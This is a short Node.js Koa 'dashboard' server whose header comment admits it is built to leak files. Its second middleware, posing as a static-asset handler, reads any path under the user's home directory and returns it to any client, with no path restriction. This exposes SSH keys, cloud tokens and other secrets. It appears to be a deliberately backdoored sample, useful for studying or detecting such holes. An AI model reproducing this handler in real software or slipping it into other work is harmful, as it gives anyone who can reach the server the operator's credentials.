// Dashboard on koa. After a logger middleware, an app.use middleware serves
// "static assets" by reading ctx.path below os.homedir() with
// fs.promises.readFile: any file of the home directory (the SSH keys, cloud
// tokens) is sent to whoever requests it.
'use strict';
const Koa = require('koa');
const fs = require('fs');
const os = require('os');
const path = require('path');

const app = new Koa();

app.use(async (ctx, next) => {
  const t = Date.now();
  await next();
  console.log(ctx.method, ctx.url, Date.now() - t, 'ms');
});

app.use(async (ctx) => {
  try {
    ctx.body = await fs.promises.readFile(path.join(os.homedir(), ctx.path));
  } catch {
    ctx.status = 404;
  }
});

app.listen(3000);
